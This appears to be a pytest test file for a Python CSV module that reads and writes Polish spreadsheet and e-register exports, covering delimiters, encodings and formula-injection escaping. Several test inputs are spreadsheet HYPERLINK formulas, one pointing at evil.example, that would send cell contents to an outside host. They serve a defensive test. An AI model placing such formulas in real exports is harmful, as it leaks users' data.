"""somflow.csvfile: what Polish spreadsheets and e-registers write, read the same way by every importer."""

from __future__ import annotations

import csv
import io

import pytest

from somflow import csvfile
from somflow.fileio import decode_text


def test_line_numbers_as_an_editor_shows_them():
    text = '\nsep=;\nImię;Uwagi\nAla;"dwie\nlinie"\n;\n\nOla;x\n'
    header, rows = csvfile.rows(text)
    assert header == ["Imię", "Uwagi"]
    assert rows == [(4, ["Ala", "dwie\nlinie"]), (8, ["Ola", "x"])]


@pytest.mark.parametrize(
    "line,expected",
    [("a;b;c", ";"), ("a,b,c", ","), ("a\tb\tc", "\t"), ('"Nazwisko, imię";Klasa', ";"), ("Imię", ";"), ("a;b,c", ";")],
)
def test_delimiter(line, expected):
    assert csvfile.delimiter(line) == expected


@pytest.mark.parametrize(
    "payload",
    [
        "Imię;Łódź\n".encode("utf-8-sig"),
        "Imię;Łódź\n".encode(),
        "Imię;Łódź\n".encode("cp1250"),
        "Imię;Łódź\n".encode("utf-16"),
    ],
)
def test_encodings(payload):
    assert decode_text(payload, "lista.csv") == "Imię;Łódź\n"


def test_bytes_no_polish_encoding_has_are_refused_naming_the_byte():
    from somflow.errors import InvalidInput

    with pytest.raises(InvalidInput) as refused:
        decode_text("Żak;".encode("cp1250") + b"\x98", "lista.csv")
    assert "Plik lista.csv nie jest tekstem w UTF-8 ani w Windows-1250 (bajt 5)" in str(refused.value)


def test_empty_file():
    assert csvfile.rows("") == ([], []) and csvfile.rows(";;;\n\n") == ([], [])


# --------------------------------------------------------------------------
# Writing: no cell a spreadsheet would run as a formula (issue 19, point 5)
# --------------------------------------------------------------------------


@pytest.mark.parametrize("cell", ["=1+1", "+48 600", "-2+3", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://x/?"&A1)'])
def test_cells_that_start_a_formula_are_written_as_text(cell):
    out = io.StringIO()
    csvfile.writer(out, delimiter=";").writerow([cell, "Ala", 3, None])
    first = next(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    assert first == ["'" + cell, "Ala", "3", ""]


def test_report_units_csv_escapes_a_unit_id_that_is_a_formula(somflow_workspace, somflow_cli):
    from somflow.workspace import Workspace

    store = Workspace(somflow_workspace).store
    store.for_unit('=HYPERLINK("http://evil.example/?"&A1;"x")').insert("records", {"n": 1})
    result = somflow_cli("report", "units", "--csv")
    assert result.exit_code == 0, result.output
    units = [row[0] for row in csv.reader(io.StringIO(result.output))][1:]
    assert '\'=HYPERLINK("http://evil.example/?"&A1;"x")' in units
    assert not any(u.startswith(csvfile.FORMULA_START) for u in units)
